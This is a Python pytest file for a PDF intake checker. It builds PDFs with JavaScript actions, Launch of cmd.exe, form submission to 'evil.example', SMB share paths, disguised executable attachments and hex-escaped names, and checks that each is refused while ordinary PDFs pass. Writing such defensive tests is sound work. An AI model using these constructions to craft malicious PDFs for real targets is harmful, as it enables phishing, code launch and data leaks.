"""PDF files: bytes before the header, passwords, and scripts and programs wherever in the file they are."""

import io
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from tests.cases import case
from tests.tree import made_up_files as files
from tree.exceptions import FileRefused
from tree.files import pdf
from tree.files.pdf import pdf_text
from tree.files.recognition import Recognised, recognise

SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
LAUNCH = {"/S": "/Launch", "/F": "cmd.exe"}
LINK = {"/S": "/URI", "/URI": "https://portal.example/"}


def seen(tmp_path: Path, content: bytes, name: str = "a.pdf") -> Recognised:
    path = tmp_path / "file"
    path.write_bytes(content)
    return recognise(path, name)


def made(value: object) -> PdfObject:
    """A PDF object of dictionaries, lists and texts; a text with a slash is a name."""
    match value:
        case PdfObject():
            return value
        case dict():
            return DictionaryObject({NameObject(key): made(inner) for key, inner in value.items()})
        case list():
            return ArrayObject([made(inner) for inner in value])
        case int():
            return NumberObject(value)
        case float():
            return FloatObject(value)
    text = str(value)
    return NameObject(text) if text.startswith("/") else TextStringObject(text)


def compressed(action: bytes) -> bytes:
    """A file as other programs write it: the catalog and this action, which runs on opening, in a stream of objects."""
    inside = {
        1: b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        4: action,
    }
    places, body = b"", b""
    for number, content in inside.items():
        places += b"%d %d " % (number, len(body))
        body += content + b" "
    packed = zlib.compress(places + body)
    stream = b"<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
    objects = {
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        5: stream % (len(places), len(packed), packed),
    }
    file, rows = b"%PDF-1.7\n", [bytes(6)] * 7
    for place, number in enumerate(inside):
        rows[number] = b"\2\0\0\0\5" + bytes([place])
    for number, content in objects.items():
        rows[number] = b"\1" + len(file).to_bytes(4, "big") + b"\0"
        file += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows[6] = b"\1" + len(file).to_bytes(4, "big") + b"\0"
    table = b"".join(rows)
    head = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    return file + b"6 0 obj\n%bstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, table, len(file))


def written(change: Callable[[PdfWriter], object], password: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(300, 300)
    change(writer)
    if password is not None:
        writer.encrypt(password, "owner", algorithm="AES-256")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def in_catalog(**entries: object) -> bytes:
    def change(writer: PdfWriter) -> None:
        for key, value in entries.items():
            writer.root_object[NameObject(f"/{key}")] = writer._add_object(made(value))

    return written(change)


def on_page(**entries: object) -> bytes:
    def change(writer: PdfWriter) -> None:
        for key, value in entries.items():
            writer.pages[0][NameObject(f"/{key}")] = made(value)

    return written(change)


def annotation(**entries: object) -> bytes:
    return on_page(Annots=[{"/Type": "/Annot", "/Subtype": "/Link"} | {f"/{key}": v for key, v in entries.items()}])


def field_of_parent() -> bytes:
    """The script is at the parent of the widget, which only the widget names."""

    def change(writer: PdfWriter) -> None:
        parent = writer._add_object(made({"/T": "name", "/AA": {"/K": SCRIPT}}))
        widget = made({"/Subtype": "/Widget"})
        assert isinstance(widget, DictionaryObject)
        widget[NameObject("/Parent")] = parent
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(widget)])

    return written(change)


def kind_by_reference() -> bytes:
    """The kind of the action is an object of its own."""

    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): writer._add_object(NameObject("/Launch"))})
        writer.root_object[NameObject("/OpenAction")] = action

    return written(change)


def xfa(script: bytes) -> bytes:
    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream.set_data(b"<template><field>" + script + b"</field></template>")
        form = DictionaryObject({NameObject("/Fields"): ArrayObject()})
        form[NameObject("/XFA")] = ArrayObject(
            [TextStringObject("template"), writer._add_object(stream.flate_encode())]
        )
        writer.root_object[NameObject("/AcroForm")] = form

    return written(change)


def attached(name: str) -> bytes:
    return written(lambda writer: writer.add_attachment(name, b"content"))


def locked_script() -> bytes:
    """It forbids printing, which takes no password to open, and has a script."""
    return written(lambda writer: writer.root_object.update({NameObject("/OpenAction"): made(SCRIPT)}), "")


REFUSED = {
    "open": in_catalog(OpenAction=SCRIPT),
    "open, later": in_catalog(OpenAction=LINK | {"/Next": [LINK, LINK | {"/Next": SCRIPT}]}),
    "on closing": in_catalog(AA={"/WC": SCRIPT}),
    "in names": files.pdf(javascript="app.alert(1)"),
    "in names, deep": in_catalog(Names={"/JavaScript": {"/Kids": [{"/Names": ["a", SCRIPT]}]}}),
    "page": on_page(AA={"/O": SCRIPT}),
    "annotation": annotation(A=SCRIPT),
    "form as a string": in_catalog(AcroForm={"/XFA": "<template><script>app.alert(1)</script></template>"}),
    "annotation, hover": annotation(AA={"/E": LAUNCH}),
    "launch": annotation(A=LAUNCH),
    "kind by reference": kind_by_reference(),
    "field": in_catalog(AcroForm={"/Fields": [{"/T": "a", "/Kids": [{"/T": "b", "/AA": {"/C": SCRIPT}}]}]}),
    "field of a parent": field_of_parent(),
    "outline": in_catalog(Outlines={"/First": {"/Title": "a", "/First": {"/Title": "b", "/A": SCRIPT}}}),
    "rendition": annotation(A={"/S": "/Rendition", "/JS": "app.alert(1)"}),
    "thread of 3D": annotation(Subtype="/3D", **{"3DD": {"/OnInstantiate": "x"}}),
    "flash": annotation(Subtype="/RichMedia"),
    "form of XFA": xfa(b"<event><script contentType='application/x-javascript'>x()</script></event>"),
    "share": in_catalog(OpenAction={"/S": "/GoToE", "/F": r"\\10.0.0.1\a.pdf", "/D": [0, "/Fit"]}),
    "share by file": annotation(A={"/S": "/GoToR", "/F": {"/Type": "/Filespec", "/UF": "//10.0.0.1/a.pdf"}}),
    "program": attached("setup.exe"),
    "program, hidden": attached("invoice.pdf.js "),
    "macros": attached("a.docm"),
    "program at an annotation": annotation(Subtype="/FileAttachment", FS={"/UF": "a.bat", "/F": "a.txt", "/EF": {}}),
    "without password": locked_script(),
    "script in a stream of objects": compressed(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "names with digits": compressed(b"<</#53/Java#53cript/#4aS(x)>>"),
    "launch with digits": compressed(b"<</S/L#61unch/F(cmd.exe)>>"),
    "form to the web": annotation(A={"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://evil.example/"}}),
    "form to the web on opening": compressed(b"<</S/Submit#46orm/F(https://evil.example/)>>"),
    "form to nowhere": annotation(A={"/S": "/SubmitForm"}),
    "data of a file": annotation(A={"/S": "/ImportData", "/F": "answers.fdf"}),
    "data of a share": compressed(rb"<</S/ImportData/F(\\\\\\\\10.0.0.1\\\\a.fdf)>>"),
    "film on a share": annotation(Subtype="/Movie", Movie={"/F": r"\\10.0.0.1\a.avi"}),
}

TAKEN = {
    "plain": files.pdf("Hello"),
    "link": annotation(A=LINK),
    "in the file": annotation(A={"/S": "/GoTo", "/D": [0, "/Fit"]}),
    "other file": annotation(A={"/S": "/GoToR", "/F": "other.pdf"}),
    "form": in_catalog(AcroForm={"/Fields": [{"/T": "name", "/V": "Ana"}]}),
    "form by mail": annotation(A={"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "mailto:help@msp.example"}}),
    "form that is emptied": annotation(A={"/S": "/ResetForm"}),
    "link in a stream of objects": compressed(b"<</S/URI/URI(https://portal.example/)>>"),
    "form of XFA": xfa(b"<text>x</text>"),
    "invoice": attached("factur-x.xml"),
    "outline": in_catalog(Outlines={"/First": {"/Title": "JavaScript", "/A": LINK}}),
    "printing forbidden": written(lambda writer: None, ""),
}


@pytest.mark.parametrize("name", REFUSED)
def test_scripts_and_programs_are_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(FileRefused, match="Print it into a new PDF"):
        seen(tmp_path, REFUSED[name])


@pytest.mark.parametrize("name", TAKEN)
def test_what_people_send_is_taken(tmp_path: Path, name: str) -> None:
    assert not seen(tmp_path, TAKEN[name]).is_locked


def test_a_file_with_a_password_is_named_so(tmp_path: Path) -> None:
    assert seen(tmp_path, written(lambda writer: None, "secret")).is_locked
    assert list(pdf_text(tmp_path / "file")) == []


@pytest.mark.parametrize(
    "before",
    [
        b"",
        b"\xef\xbb\xbf",
        b"\r\n\r\n",
        b'\x1b%-12345X@PJL SET JOBNAME="scan"\r\n@PJL ENTER LANGUAGE=PDF\r\n',
        b"\0" * 8,
        b"X-Scanner: 7\r\nContent-Type: application/pdf\r\n\r\n",
        b" " * 1019,
    ],
)
def test_bytes_before_the_header(tmp_path: Path, before: bytes) -> None:
    assert not seen(tmp_path, before + files.pdf("quokka")).is_locked
    assert [text.strip() for text in pdf_text(tmp_path / "file")] == ["quokka"]


@pytest.mark.parametrize("name", ["bom_before_header.pdf", "pjl_before_header.pdf"])
def test_files_from_the_field(tmp_path: Path, name: str) -> None:
    assert not seen(tmp_path, case(name)).is_locked
    assert "quokka" in " ".join(pdf_text(tmp_path / "file"))


@pytest.mark.parametrize(
    "before", [b"GIF89a", b"MZ", b"#!/bin/sh\n", b"<html><script>alert(1)</script>", b"PK\x03\x04", b" " * 1025]
)
def test_other_content_before_the_header_is_refused(tmp_path: Path, before: bytes) -> None:
    with pytest.raises(FileRefused, match="not what its ending says"):
        seen(tmp_path, before + files.pdf())


def test_a_script_behind_a_byte_order_mark_is_found(tmp_path: Path) -> None:
    with pytest.raises(FileRefused, match="script"):
        seen(tmp_path, b"\xef\xbb\xbf" + REFUSED["annotation"])


def test_objects_that_refer_to_each_other_and_very_many_objects(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def circle(writer: PdfWriter) -> None:
        first, second = (writer._add_object(DictionaryObject()) for _ in range(2))
        for one, other in ((first, second), (second, first)):
            found = one.get_object()
            assert isinstance(found, DictionaryObject)
            found[NameObject("/Next")] = other
        writer.root_object[NameObject("/Outlines")] = first

    seen(tmp_path, written(circle))
    many = in_catalog(Outlines=[[0] for _ in range(50)])
    seen(tmp_path, many)
    monkeypatch.setattr(pdf, "MAX_OBJECTS", 40)
    with pytest.raises(FileRefused, match="too many parts"):
        seen(tmp_path, many)
